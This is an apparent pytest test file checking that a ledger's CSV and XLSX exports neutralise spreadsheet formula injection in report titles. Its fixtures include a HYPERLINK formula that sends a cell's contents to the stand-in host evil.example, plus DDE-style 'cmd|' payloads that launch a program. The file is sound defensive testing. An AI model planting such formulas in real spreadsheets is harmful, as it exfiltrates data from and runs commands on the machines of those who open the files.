"""The ledger exports never run what a grid lead typed: CSV cells are neutralised (OWASP),
XLSX cells are typed text, never formulas. The attacker is a grid lead with a title."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.e2e import helpers as h
from tests.support.api import Api

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
# Every trigger a spreadsheet reads as the start of a formula. Titles are single-line, so
# tab and CR cannot start one today; they are checked on the cell helper below.
TITLES = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


def _plant(api: Api, title: str) -> None:
    h.report(api, title=title)
    api.get("admin", "/cases", min_position=api.event_count())


def _csv_titles(api: Api, user: str = "coordinator") -> list[str]:
    text = api.client.get("/ledger.csv", headers=api.headers(user)).text.lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    return [row[1] for row in rows[1:]]


@pytest.mark.parametrize("title", TITLES)
def test_csv_cells_that_would_start_a_formula_are_neutralised(api: Api, title: str) -> None:
    _plant(api, title)
    assert _csv_titles(api) == ["'" + title]


def test_csv_leaves_ordinary_titles_alone(api: Api) -> None:
    _plant(api, "城市华庭小区车辆长期占用消防通道")
    assert _csv_titles(api) == ["城市华庭小区车辆长期占用消防通道"]


@pytest.mark.parametrize("title", TITLES)
def test_xlsx_holds_the_title_as_text_and_no_formula(api: Api, title: str) -> None:
    _plant(api, title)
    xlsx = api.client.get("/ledger.xlsx", headers=api.headers("auditor"))
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.data_type for c in cells if c.data_type == "f"] == []
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [title]
    assert sheet.cell(row=2, column=2).data_type == "s"


@pytest.mark.parametrize("char", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
def test_every_trigger_character_is_neutralised_in_a_csv_cell(char: str) -> None:
    from interfaces.http.spreadsheet import csv_cell

    assert csv_cell(f"{char}1+1") == f"'{char}1+1"
    assert csv_cell(f"a{char}1") == f"a{char}1"
    assert csv_cell(3) == 3


@pytest.mark.parametrize("char", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
def test_every_trigger_character_stays_text_in_an_xlsx_cell(char: str) -> None:
    from openpyxl import Workbook

    from interfaces.http.spreadsheet import xlsx_row

    book = Workbook(write_only=True)
    sheet = book.create_sheet("t")
    sheet.append(xlsx_row(sheet, [f"{char}1+1", 7]))
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.data_type for c in cells] == ["s", "n"]
    assert cells[0].value.replace("\n", "\r") == f"{char}1+1"  # XML reads CR back as LF
